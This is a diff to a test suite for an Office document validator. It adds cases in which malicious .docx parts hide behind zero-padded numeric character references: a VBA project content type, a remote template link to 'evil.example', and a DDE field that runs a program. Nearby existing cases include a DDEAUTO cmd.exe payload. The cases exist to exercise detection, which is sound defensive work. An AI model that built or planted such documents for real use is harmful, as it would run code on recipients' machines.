@@ -104,6 +104,11 @@ describe('T13 T14 which documents are refused, and with which sentence', () => {
         'damaged',
       ],
       [
+        'relations with a number that belongs to no character',
+        rels(relation('hyperlink', 'https://x.example/&#99999999;', true)),
+        'damaged',
+      ],
+      [
         'an attribute named twice',
         rels('<Relationship TargetMode="Internal" TargetMode="External"/>'),
         'damaged',
@@ -162,6 +167,20 @@ describe('T13 T14 which documents are refused, and with which sentence', () => {
             "<Override PartName='/m' ContentType='application/vnd.ms-office.vba&#x50;roject'/>",
           ),
         }),
+        'macros',
+      ],
+      [
+        'a type with a letter as a number of many zeros',
+        docx({
+          '[Content_Types].xml': contentTypes(
+            "<Override PartName='/m' ContentType='application/vnd.ms-office.vba&#x0000050;roject'/>",
+          ),
+        }),
+        'macros',
+      ],
+      [
+        'a template that says it lies inside, with a letter as a number of many zeros',
+        rels(relation('attachedTemplate', '&#00000104;ttps://evil.example/x.dotm')),
         'macros',
       ],
       ['a template from elsewhere', external('attachedTemplate'), 'macros'],
@@ -237,6 +256,11 @@ describe('T13 T14 which documents are refused, and with which sentence', () => {
       ['a field that runs a program', field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), 'macros'],
       ['a field that runs a program, in three runs', field(' DD', 'EA', 'UTO c:\\\\cmd.exe'), 'macros'],
       ['a field that runs a program, spelled', field('D&#68;E <![CDATA[x]]>'), 'macros'],
+      [
+        'a field that runs a program, with a letter as a number of many zeros',
+        field('D&#00000068;E x y'),
+        'macros',
+      ],
       [
         'a field that runs a program, in one tag',
         body(`<w:fldSimple w:instr='  ddeauto c:\\cmd'/>`),
